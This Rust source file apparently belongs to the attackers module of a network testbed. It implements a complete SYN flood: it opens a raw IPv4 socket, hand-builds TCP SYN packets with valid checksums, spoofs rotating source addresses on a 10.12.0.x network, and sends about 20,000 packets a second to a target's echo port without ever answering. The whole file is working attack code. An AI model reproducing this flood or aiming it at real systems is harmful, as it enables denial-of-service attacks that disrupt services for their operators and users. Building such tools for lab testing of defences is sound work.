//! The attack by bare packets: SYNs from addresses where nobody is.

use crate::apps::ECHO;
use crate::attackers::{Material, Stop};
use crate::scene::ATTACKED_IP;
use socket2::{Domain, Protocol, Socket, Type};
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

/// Sent between two looks at the clock: some 20,000 a second.
const BATCH: u32 = 200;

/// Sends SYNs from as many addresses of the stranger's network as there are, and never answers.
pub fn syn_flood(_: Arc<Material>, stop: Stop) -> u64 {
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255))).unwrap();
    socket.set_header_included_v4(true).unwrap();
    let to = SocketAddrV4::new(ATTACKED_IP.parse().unwrap(), ECHO);
    let mut sent = 0_u32;
    while !stop.load(Ordering::Relaxed) {
        for _ in 0..BATCH {
            let host = u8::try_from(3 + sent % 250).unwrap();
            let port = u16::try_from(1024 + sent / 250 % 60_000).unwrap();
            let from = SocketAddrV4::new(Ipv4Addr::new(10, 12, 0, host), port);
            // The neighbour table may be full for a moment.
            let _ = socket.send_to(&syn(from, to, sent), &SocketAddr::V4(to).into());
            sent += 1;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    sent.into()
}

/// A packet of IP (RFC 791) with a SYN (RFC 9293, section 3.1) in it.
fn syn(from: SocketAddrV4, to: SocketAddrV4, sequence: u32) -> Vec<u8> {
    let mut segment = [from.port().to_be_bytes(), to.port().to_be_bytes()].concat();
    segment.extend(sequence.to_be_bytes());
    segment.extend([0, 0, 0, 0, 5 << 4, 2, 0x72, 0x10, 0, 0, 0, 0]);
    let mut summed = [from.ip().octets(), to.ip().octets()].concat();
    summed.extend([0, 6, 0, 20]);
    summed.extend(&segment);
    let checksum = checksum(&summed);
    segment[16..18].copy_from_slice(&checksum.to_be_bytes());
    // The kernel fills in length, identification and checksum of the outer header (raw(7)).
    let mut packet = vec![0x45, 0, 0, 0, 0, 0, 0x40, 0, 64, 6, 0, 0];
    packet.extend(from.ip().octets());
    packet.extend(to.ip().octets());
    packet.extend(segment);
    packet
}

/// Of the internet protocols (RFC 1071).
fn checksum(bytes: &[u8]) -> u16 {
    let sum: u32 = bytes.chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum();
    let folded = (sum & 0xffff) + (sum >> 16);
    !u16::try_from((folded & 0xffff) + (folded >> 16)).unwrap()
}
